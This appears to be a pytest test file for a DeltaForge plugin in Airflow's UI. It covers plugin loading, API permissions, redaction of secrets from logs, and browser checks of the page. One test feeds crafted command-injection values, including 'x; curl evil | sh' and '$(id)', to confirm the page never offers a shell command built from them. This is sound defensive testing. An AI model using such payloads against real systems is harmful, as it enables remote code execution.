"""The page in Airflow's UI: what Airflow loads and serves, and what a browser shows of it."""

import asyncio
import json
import os
import re
import shutil
import socket
import subprocess
import sys
from importlib.metadata import entry_points
from pathlib import Path

import pytest

from airflow_provider_deltaforge.api.server import serving
from airflow_provider_deltaforge.control import pipelines
from airflow_provider_deltaforge.control.advice import advice
from airflow_provider_deltaforge.control.status import status
from airflow_provider_deltaforge.control.supervise import Supervisor
from airflow_provider_deltaforge.hooks.jobs import owner_token
from airflow_provider_deltaforge.plugins_airflow import page
from airflow_provider_deltaforge.storage.location import StoreLocation
from tests.airflow.page_bench import JSON, OWNER, SECRET, STATIC, add_dag
from tests.control.bench import DOCUMENT
from tests.page.browser import browser, opened  # noqa: F401 - a fixture
from tests.waiting import wait_until

API = "/api/pipelines"
READ = (API, f"{API}?ops=true", *(f"{API}/orders{part}" for part in ("", "/log", "/snapshots")))


def test_the_entry_point_is_the_only_source_of_the_plugin_and_it_loads():
    from airflow import plugins_manager

    points = [
        point for point in entry_points(group="airflow.plugins") if point.name == "deltaforge"
    ]
    loaded, errors = plugins_manager._get_plugins()

    assert [point.load() for point in points] == [page.DeltaForgePlugin]
    assert [plugin.name for plugin in loaded].count("deltaforge") == 1
    assert errors == {}


def test_importing_the_plugin_brings_no_web_framework():
    """Every component imports it; the test process has imported everything, so ask another."""
    asked = (
        "import sys, airflow.plugins_manager\n"
        "before = set(sys.modules)\n"
        "import airflow_provider_deltaforge.plugins_airflow.page\n"
        "print(*sorted(set(sys.modules) - before))"
    )
    done = subprocess.run(
        [sys.executable, "-c", asked], capture_output=True, text=True, check=True, env=os.environ
    )

    brought = done.stdout.split()
    ours = [name for name in brought if name.startswith("airflow_provider_deltaforge")]
    assert "airflow_provider_deltaforge.plugins_airflow.page" in ours
    marks = {"airflow.listeners", "airflow._shared.listeners"}  # What marks a listener; small.
    assert set(brought) - marks == set(ours)


def test_the_application_is_built_once_and_only_when_it_is_asked():
    built = []

    async def application(scope, receive, send):
        built.append(scope)

    lazy = page.LazyApplication(lambda: built.append("built") or application)
    assert built == []
    asyncio.run(lazy(1, None, None))
    asyncio.run(lazy(2, None, None))

    assert built == ["built", 1, 2]


def test_the_tab_can_be_hidden(monkeypatch):
    monkeypatch.setenv("AIRFLOW__DELTAFORGE__DAG_TAB", "False")

    assert [app["destination"] for app in page._react_apps()] == ["nav"]


def test_airflow_serves_every_file_of_the_page_and_a_change_shows_at_once(ask):
    for path in STATIC.rglob("*.*"):
        answer = ask(f"/static/{path.relative_to(STATIC)}", role=None)
        assert answer.status_code == 200
        assert answer.text == path.read_text()
        assert answer.headers["Cache-Control"] == "no-cache"
    kind = ask("/static/airflow.js", role=None).headers["Content-Type"]
    assert kind.startswith(("text/javascript", "application/javascript"))


def test_the_ui_gets_the_page_and_files_that_exist(client, token):
    signed_in = {"Authorization": f"Bearer {token('admin')}"}
    answer = client.get("/api/v2/plugins", headers=signed_in).json()
    [ours] = [plugin for plugin in answer["plugins"] if plugin["name"] == "deltaforge"]

    assert {app["destination"]: app["url_route"] for app in ours["react_apps"]} == {
        "nav": "deltaforge",
        "dag": "deltaforge-dag",
    }
    for app in ours["react_apps"]:
        assert client.get(f"/{app['bundle_url']}").status_code == 200
        assert client.get(f"/{app['icon']}").status_code == 200


def test_every_status_that_needs_somebody_has_advice():
    from airflow_provider_deltaforge import errors

    classes = {
        kind.error_class
        for kind in vars(errors).values()
        if isinstance(kind, type) and issubclass(kind, errors.DeltaForgeError)
    }
    owners = (OWNER, "serve:host:1:abcd", "cli:host:1:abcd", None)

    for owner in owners:
        assert len({advice("failed", kind, owner) for kind in classes}) >= 7
        for word in ("lost", "blocked", "paused", "stopped", "pending"):
            assert "{" not in advice(word, None, owner)
    assert len({advice("stopped", None, owner) for owner in owners}) == 3
    assert advice("running", None, OWNER) is None


def test_a_lost_position_is_cured_by_what_its_advice_names():
    from airflow_provider_deltaforge.operators import control

    operator, action = re.findall("`(.+?)`", advice("failed", "position_lost", OWNER))

    assert hasattr(control, operator)
    assert action in control._ACTIONS


def test_the_owner_token_of_the_operators_is_understood():
    from types import SimpleNamespace

    ti = SimpleNamespace(
        dag_id="team.shop", task_id="g.stream", run_id="a/b+c", map_index=3, try_number=4
    )

    assert Supervisor.of(owner_token({"ti": ti})) == Supervisor(
        "team.shop", "g.stream", "a/b+c", 3, 4
    )
    assert Supervisor.of("cli:host:77") is None
    assert Supervisor.of(None) is None


def test_a_pipeline_without_a_dag_is_changed_by_who_may_edit_its_connection(ask, orders):
    orders.update(lambda old: old.model_copy(update={"owner": "deltaforge run"}))
    post = {"method": "POST", "headers": dict(JSON), "content": "{}"}

    assert ask(f"{API}/orders/pause", "user", **post).status_code == 403
    assert ask(f"{API}/orders/pause", "admin", **post).status_code == 200
    assert orders.read().desired == "paused"


def test_the_log_is_the_drivers_without_secrets_and_only_its_end(ask, orders):
    place = Path(orders.read().handle["directory"]) / "driver.log"
    with place.open("a") as log:
        log.writelines(f"{number:07d} {'x' * 992}\n" for number in range(3000))
        log.write(f"connecting to mysql://app:{SECRET}@db/shop password={SECRET}\n")

    lines = ask(f"{API}/orders/log?lines=2000").json()["lines"]

    assert lines[-1].startswith("connecting to mysql://app:***@db/shop")
    assert lines[-2].startswith("0002999 ")
    assert 1000 < len(lines) < 1100
    assert ask(f"{API}/orders/log?lines=0").status_code == 422


def test_of_a_log_on_another_host_no_path_is_shown(ask, orders):
    elsewhere = {**orders.read().handle, "host": f"not-{socket.gethostname()}"}
    orders.update(lambda old: old.model_copy(update={"handle": elsewhere}))

    told = ask("/api/pipelines/orders/log").json()

    assert told["lines"] == []
    assert elsewhere["directory"] not in told["missing"]


def test_no_answer_holds_a_secret(ask, orders, store, monkeypatch):
    """Planted in the environment of a variable, and written out in a document and a reason."""
    monkeypatch.setenv("OUTPUT", f"/{SECRET}")
    pipelines.apply(store, DOCUMENT.replace("metadata:", f"# password: of {SECRET}\nmetadata:"))
    answers = [ask(path).text for path in READ]

    assert "${OUTPUT}" in answers[2]
    assert not [answer for answer in answers if SECRET in answer]


def test_who_may_see_one_dag_alone_is_answered(ask, orders, monkeypatch):
    from airflow.api_fastapi.auth.managers.simple.simple_auth_manager import SimpleAuthManager

    def only_shop(self, *, details=None, **_):
        return details is not None and details.id == "shop"

    monkeypatch.setattr(SimpleAuthManager, "is_authorized_dag", only_shop)
    monkeypatch.setattr(SimpleAuthManager, "get_authorized_dag_ids", lambda *_, **__: {"shop"})

    assert [shown["name"] for shown in ask(API).json()] == ["orders"]


def test_a_connection_of_another_type_is_there_for_who_may_read_connections(
    ask, orders, monkeypatch
):
    monkeypatch.setenv("AIRFLOW_CONN_SHOP", json.dumps({"conn_type": "mysql", "host": "db"}))

    def codes(role):
        answers = [ask(f"{API}?conn_id={conn_id}", role).json() for conn_id in ("shop", "nothing")]
        return [answer["code"] for answer in answers]

    assert codes("viewer") == ["CONNECTION_NOT_FOUND", "CONNECTION_NOT_FOUND"]
    assert codes("admin") == ["WRONG_CONNECTION", "CONNECTION_NOT_FOUND"]


def test_the_connections_to_choose_from_are_ours_alone(ask, orders, monkeypatch):
    from airflow.models import Connection
    from airflow.utils.session import create_session

    monkeypatch.setenv("AIRFLOW_CONN_ARCHIVE", f"deltaforge://app:{SECRET}@db/archive")
    monkeypatch.setenv("AIRFLOW_CONN_SHOP_DB", f"mysql://app:{SECRET}@db/shop")
    monkeypatch.setenv("AIRFLOW_CONN_BROKEN", "{")
    with create_session() as session:
        session.add(Connection(conn_id="stored", conn_type="deltaforge", host="db"))
        session.add(Connection(conn_id="other", conn_type="http", host="db"))
    try:
        answer = ask("/api/connections", "viewer").json()
    finally:
        with create_session() as session:
            session.query(Connection).delete()

    assert answer == ["deltaforge_default", "archive", "stored"]


RENDER = """
globalThis.React = { createElement: (type, props, ...children) => ({ type, props, children }) };
for (const name of ["ChakraUI", "ReactRouterDOM"])
  globalThis[name] = new Proxy({}, { get: (_, part) => part });
const { NoConnection } = await import(process.argv[1]);
const flat = (node) => node?.type instanceof Function
  ? flat(node.type({ ...node.props, children: node.children }))
  : { ...node, children: (node?.children?.flat() ?? []).map((c) => (c?.type ? flat(c) : c)) };
for (const connId of JSON.parse(process.argv[2]))
  console.log(JSON.stringify(flat({ type: NoConnection, props: { connId, message: "none" } })));
"""


def test_a_link_cannot_put_words_into_the_command_the_page_offers(tmp_path):
    shutil.copytree(STATIC, tmp_path, dirs_exist_ok=True)
    # A browser is told by the page that these are modules, Node.js by this file.
    (tmp_path / "package.json").write_text('{"type": "module"}')
    crafted = ["x; curl evil | sh", "$(id)", "`id`", "a\nid", "a\n", "--help", ""]
    words = [RENDER, str(tmp_path / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
    done = subprocess.run(
        ["node", "--input-type=module", "-e", *words], capture_output=True, text=True, check=False
    )

    assert done.returncode == 0, done.stderr
    offered = ["airflow connections add" in line for line in done.stdout.splitlines()]
    assert offered == [True, *(False for _ in crafted)]


@pytest.fixture(scope="module")
def airflow_url(client):
    """Airflow's API server with its UI, on an address of its own."""
    with serving(client.app, "127.0.0.1:0") as url:
        yield url


@pytest.fixture
def ui(airflow_url, browser, token):  # noqa: F811
    """Airflow's UI, signed in."""
    with opened(browser, airflow_url) as shown:
        shown.context.add_cookies([{"name": "_token", "value": token("admin"), "url": airflow_url}])
        yield shown


def test_the_page_is_airflows_and_steers_a_pipeline(ui, orders, store, backend, monkeypatch):
    """In one session: a pipeline, a dialog by keyboard, dark mode, other stores."""
    ui.goto("/plugin/deltaforge")
    ui.get_by_role("link", name="orders", exact=True).click()
    ui.get_by_role("link", name="stream", exact=True).wait_for()
    assert ui.get_by_role("link", name="stream").get_attribute("href").endswith("tasks/stream")
    assert ui.get_by_role("button", name="Test…").count() == 0, "drivers run elsewhere"

    ui.get_by_role("button", name="Pause").click()
    ui.get_by_role("button", name="Resume").wait_for()
    wait_until(lambda: status(store, "orders", backend).status == "paused")
    ui.get_by_role("button", name="Stop…").click()
    ui.get_by_text("A later run of shop starts it again").wait_for()
    ui.keyboard.press("Escape")
    ui.get_by_role("dialog").wait_for(state="hidden")
    assert orders.read().desired == "paused"

    ui.get_by_role("tab", name="Copies").click()
    ui.get_by_text("25 of about 100 rows").wait_for()
    ui.get_by_role("cell", name="again").wait_for()

    light = ui.evaluate("getComputedStyle(document.querySelector('.df-muted')).color")
    ui.evaluate("document.documentElement.className = 'dark'")
    assert ui.evaluate("getComputedStyle(document.querySelector('.df-muted')).color") != light

    monkeypatch.setenv("AIRFLOW_CONN_OTHER", json.dumps({"conn_type": "http", "host": "db"}))
    for conn_id, text in {
        "nothing": "First, a connection",
        "other": "names no state store",
    }.items():
        ui.goto(f"/plugin/deltaforge?conn_id={conn_id}")
        ui.get_by_text(text).wait_for()


def test_a_dags_tab_shows_its_own_pipelines(ui, orders):
    for dag_id in ("shop", "other"):
        add_dag(dag_id)

    ui.goto("/dags/shop/plugin/deltaforge-dag")
    ui.get_by_role("heading", name="orders").wait_for()
    assert ui.get_by_role("link", name="All pipelines").count() == 0
    ui.goto("/dags/other/plugin/deltaforge-dag")
    ui.get_by_text("No pipeline of this DAG").wait_for()


def test_an_empty_store_says_what_comes_next(ui, monkeypatch, tmp_path):
    extra = {"path": str(tmp_path / "new.db")}
    value = json.dumps({"conn_type": "deltaforge", "extra": extra})
    monkeypatch.setenv("AIRFLOW_CONN_EMPTY", value)
    StoreLocation.from_dsn(f"sqlite:///{extra['path']}").create().close()

    ui.goto("/plugin/deltaforge?conn_id=empty")

    ui.get_by_text("No pipelines yet").wait_for()
